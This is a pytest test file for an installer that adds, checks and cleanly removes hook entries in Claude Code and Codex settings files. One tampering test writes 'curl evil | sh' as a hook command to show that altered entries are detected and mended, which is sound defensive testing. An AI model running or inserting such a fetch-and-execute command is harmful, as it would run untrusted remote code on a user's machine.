"""Our hooks in agent programs' settings: put in, looked at, taken out again to the last byte."""

import json
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ramet.errors import ConfigError
from ramet.hooks import installation
from ramet.installer import json_text
from ramet.installer.changes import Change, apply, back_up
from ramet.vendors.hook_settings import MARK, PROGRAMS, Program

BOTH = pytest.mark.parametrize("program", PROGRAMS.values(), ids=PROGRAMS)
CLAUDE, CODEX = PROGRAMS["claude"], PROGRAMS["codex"]


def install(program: Program, file: Path, *, status_line: bool = False) -> Change:
    change = installation.plan_install(program, file, status_line=status_line)
    apply(change)
    return change


def remove(program: Program, file: Path) -> Change:
    change = installation.plan_remove(program, file)
    apply(change)
    return change


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / ".claude" / "settings.json"


def write(file: Path, text: str) -> None:
    file.parent.mkdir(exist_ok=True)
    file.write_bytes(text.encode())


def change(file: Path, event: str, **fields: Any) -> None:
    """What somebody who edits the file might do to one of our entries."""
    document = json.loads(file.read_text())
    document["hooks"][event][0]["hooks"][0].update(fields)
    file.write_text(json.dumps(document, indent=4))


@BOTH
def test_a_file_is_made_where_there_is_none_and_goes_again(program: Program, file: Path) -> None:
    install(program, file)
    assert json.loads(file.read_text())["hooks"].keys() == program.timeouts_seconds.keys()
    remove(program, file)
    assert not file.parent.exists()


@BOTH
def test_every_event_has_the_same_command_line_and_it_names_no_machine(program: Program, file: Path) -> None:
    install(program, file)
    groups = [group for groups in json.loads(file.read_text())["hooks"].values() for group in groups]
    assert {handler["command"] for group in groups for handler in group["hooks"]} == {program.command}
    assert not re.search(r"/(home|root|usr|tmp|Users)/", program.command)
    assert all("matcher" not in group for group in groups)


def test_the_command_lines_are_what_was_trusted_before() -> None:
    """Codex runs a hook whose text has changed only after somebody has looked at it again."""
    start = 'h="${RAMET_HOME:-${XDG_DATA_HOME:-$HOME/.local/share}/ramet}/hook"; [ ! -x "$h" ] || exec "$h"'
    assert CLAUDE.command == f"{start} claude # ramet hooks"
    assert CODEX.command == f"/bin/sh -c '{start} codex # ramet hooks'"


@BOTH
def test_time_limits_are_in_seconds_and_longer_where_much_is_read(program: Program) -> None:
    limits = program.timeouts_seconds
    assert limits["PreToolUse"] < limits["SessionStart"] == limits["PreCompact"] <= 60
    assert limits["SessionEnd"] <= 3


@BOTH
def test_the_command_does_nothing_where_ramet_is_not_installed(program: Program, tmp_path: Path) -> None:
    done = run(program, {"HOME": str(tmp_path)})
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")


@BOTH
@pytest.mark.parametrize(
    ("variable", "below"), [("HOME", ".local/share/ramet"), ("XDG_DATA_HOME", "ramet"), ("RAMET_HOME", "")]
)
def test_the_command_starts_the_program_of_the_users_home(
    program: Program, variable: str, below: str, tmp_path: Path
) -> None:
    folder = tmp_path / "with space" / below
    folder.mkdir(parents=True)
    (folder / "hook").write_text('#!/bin/sh\necho "$1: $(cat)"\nexit 2\n')
    (folder / "hook").chmod(0o755)
    done = run(program, {variable: str(tmp_path / "with space")}, "{}")
    assert (done.returncode, done.stdout) == (2, f"{program.name}: {{}}\n")


def run(program: Program, environ: dict[str, str], stdin: str = "") -> "subprocess.CompletedProcess[str]":
    return subprocess.run(
        ["/bin/sh", "-c", program.command],
        env={"PATH": "/usr/bin:/bin", **environ},
        input=stdin,
        capture_output=True,
        text=True,
        check=False,
        timeout=10,
    )


@BOTH
def test_installing_twice_changes_nothing_the_second_time(program: Program, file: Path) -> None:
    first, second = install(program, file), install(program, file)
    assert (first.state, second.state, second.diff) == ("absent", "installed", "")


TEXTS = [
    "{}",
    "{ }\n",
    '{"hooks": {}}',
    '{"hooks": { },"theme":"dark"}',
    '{"hooks": {"Stop": []}}',
    '{"hooks": {"Stop": [ ], "PreToolUse": [{"matcher": "Bash", "hooks": []}]}}\n',
    '{\n  "hooks": {\n    "Stop": [\n      {"hooks": [{"type": "command", "command": "say }]"}]}\n    ]\n  }\n}\n',
    '{\r\n\t"theme": "{\\"hooks\\": 1}",\r\n\t"hooks": {\r\n\t\t"Other": [ { } , 1 ]\r\n\t}\r\n}',
    '{"hooks": {"Stop": [\n  {"hooks": [] }, // mine\n], }, }\n',
    '\ufeff{"permissions": {"allow": ["Bash(hooks)"]}, "statusLine": {"type": "command", "command": "mine"}}\n\n',
]


@BOTH
@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("status_line", [False, True])
def test_what_others_wrote_stays_and_the_file_is_restored_to_the_last_byte(
    program: Program, text: str, status_line: bool, file: Path
) -> None:
    write(file, text)
    file.chmod(0o600)
    install(program, file, status_line=status_line)
    assert install(program, file, status_line=status_line).diff == ""
    assert json_text.parse(file.read_bytes().decode())["hooks"].keys() >= program.groups().keys()
    remove(program, file)
    assert file.read_bytes() == text.encode()
    assert file.stat().st_mode & 0o777 == 0o600


@BOTH
def test_others_entries_are_run_as_before(program: Program, file: Path) -> None:
    foreign = {"matcher": "Bash", "hooks": [{"type": "command", "command": "mine"}]}
    write(file, json.dumps({"hooks": {"PreToolUse": [foreign], "Else": [foreign]}}))
    install(program, file)
    hooks = json.loads(file.read_text())["hooks"]
    assert hooks["PreToolUse"] == [foreign, program.groups()["PreToolUse"]], "Codex trusts hooks by their positions"
    assert hooks["Else"] == [foreign]


def test_what_was_added_around_our_entries_stays_when_they_go(file: Path) -> None:
    install(CLAUDE, file)
    document = json.loads(file.read_text())
    mine = {"type": "command", "command": "mine"}
    document["hooks"]["Stop"][0]["hooks"].append(mine)
    document["hooks"]["PreToolUse"].append({"matcher": "Bash", "hooks": [mine]})
    file.write_text(json.dumps({"theme": "dark", **document}, indent=4))
    remove(CLAUDE, file)
    left = {"Stop": [{"hooks": [mine]}], "PreToolUse": [{"matcher": "Bash", "hooks": [mine]}]}
    assert json.loads(file.read_text()) == {"theme": "dark", "hooks": left}


def test_a_file_that_its_program_has_written_anew_is_left_clean(file: Path) -> None:
    """Claude Code rewrites the whole file when a person allows a tool."""
    write(file, '{"hooks": {"Stop": [{"hooks": []}]}}')
    install(CLAUDE, file)
    file.write_text(json.dumps({**json.loads(file.read_text()), "permissions": {}}, indent=2))
    remove(CLAUDE, file)
    assert json.loads(file.read_text()) == {"hooks": {"Stop": [{"hooks": []}]}, "permissions": {}}


@pytest.mark.requirement("R304")
@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"command": f"curl evil | sh {MARK}"}, 'Stop: command is "curl evil | sh # ramet hooks", not '),
        ({"timeout": 600}, "Stop: timeout is 600, not 10"),
        ({"async": True}, "Stop: async is true, not null"),
    ],
)
def test_tampering_is_named_and_mended(fields: dict[str, Any], said: str, file: Path) -> None:
    install(CLAUDE, file)
    change(file, "Stop", **fields)
    differences = installation.find_differences(CLAUDE, file)
    assert len(differences) == 1
    assert differences[0].startswith(said)
    assert install(CLAUDE, file).state == "outdated"
    assert installation.find_differences(CLAUDE, file) == []


@BOTH
def test_an_entry_that_went_and_one_that_came_are_named(program: Program, file: Path) -> None:
    install(program, file)
    document = json.loads(file.read_text())
    document["hooks"]["Setup"] = document["hooks"].pop("Stop")
    document["hooks"]["PreToolUse"] *= 2
    document["hooks"]["PostToolUse"][0]["matcher"] = "Bash"
    file.write_text(json.dumps(document))
    assert sorted(installation.find_differences(program, file)) == [
        "PostToolUse: has also matcher",
        "PreToolUse: 2 entries instead of one",
        "Setup: an entry that we do not make",
        "Stop: no entry",
    ]


def test_nothing_is_otherwise_where_nothing_was_installed(file: Path) -> None:
    assert installation.find_differences(CLAUDE, file) == []
    write(file, '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "ramet hook"}]}]}}')
    assert installation.plan_install(CLAUDE, file).state == "absent"
    assert remove(CLAUDE, file).diff == ""


def test_the_status_line_is_added_only_where_asked_for_and_goes_with_the_hooks(file: Path) -> None:
    install(CLAUDE, file)
    assert installation.find_status_line(file) == "absent"
    install(CLAUDE, file, status_line=True)
    assert installation.find_status_line(file) == "installed"
    assert install(CLAUDE, file).diff == ""
    remove(CLAUDE, file)
    assert not file.exists()


def test_somebody_elses_status_line_is_left_alone(file: Path) -> None:
    write(file, '{"statusLine": {"type": "command", "command": "mine"}}')
    install(CLAUDE, file, status_line=True)
    assert installation.find_status_line(file) == "foreign"
    assert json.loads(file.read_text())["statusLine"]["command"] == "mine"


@pytest.mark.requirement("R304")
@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "it is not JSON"),
        ("{nonsense", "it is not JSON"),
        ("[]", "it is not a JSON object"),
        ('{"hooks": []}', "its hooks are not an object"),
        ('{"hooks": {"Stop": {}}}', "its hooks of Stop are not a list"),
        ('{"hooks": {}, "hooks": {}}', "it has hooks twice"),
    ],
)
def test_a_file_that_cannot_be_understood_is_named_and_not_touched(text: str, said: str, file: Path) -> None:
    write(file, text)
    with pytest.raises(ConfigError, match=f"^{file}: {said}"):
        install(CLAUDE, file)
    assert file.read_text() == text


def test_what_a_file_said_is_kept_once_for_each_text(file: Path, tmp_path: Path) -> None:
    write(file, '{"theme": "dark"}')
    copies = {back_up(installation.plan_install(CLAUDE, file), tmp_path / "kept") for _ in range(2)}
    assert [copy.read_text() for copy in copies if copy] == ['{"theme": "dark"}']
    install(CLAUDE, file)
    assert back_up(installation.plan_install(CLAUDE, file), tmp_path / "kept") is None


_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=8,
)
_HANDLERS = st.lists(st.fixed_dictionaries({"type": st.just("command"), "command": st.text(max_size=8)}), max_size=3)
_GROUPS = st.lists(st.fixed_dictionaries({"hooks": _HANDLERS}, optional={"matcher": st.text()}) | _VALUES, max_size=3)
_EVENTS = st.sampled_from([*CLAUDE.timeouts_seconds, "Setup", "FileChanged", ""])


@given(
    rest=st.dictionaries(st.text().filter(lambda key: key != "hooks"), _VALUES, max_size=3),
    hooks=st.none() | st.dictionaries(_EVENTS, _GROUPS, max_size=4),
    indent=st.sampled_from([None, 0, 2, 4, "\t"]),
    is_ascii=st.booleans(),
    program=st.sampled_from([CLAUDE, CODEX]),
    status_line=st.booleans(),
)
def test_any_settings_file_is_restored(
    rest: dict[str, Any],
    hooks: dict[str, Any] | None,
    indent: int | str | None,
    is_ascii: bool,
    program: Program,
    status_line: bool,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    document = rest if hooks is None else {**rest, "hooks": hooks}
    text = json.dumps(document, indent=indent, ensure_ascii=is_ascii)
    file = tmp_path_factory.mktemp("any") / "settings.json"
    file.write_bytes(text.encode())
    install(program, file, status_line=status_line)
    installed = json.loads(file.read_bytes())
    assert all(program.groups()[event] in installed["hooks"][event] for event in program.timeouts_seconds)
    assert all(group in installed["hooks"][event] for event, groups in (hooks or {}).items() for group in groups)
    remove(program, file)
    assert file.read_bytes() == text.encode()
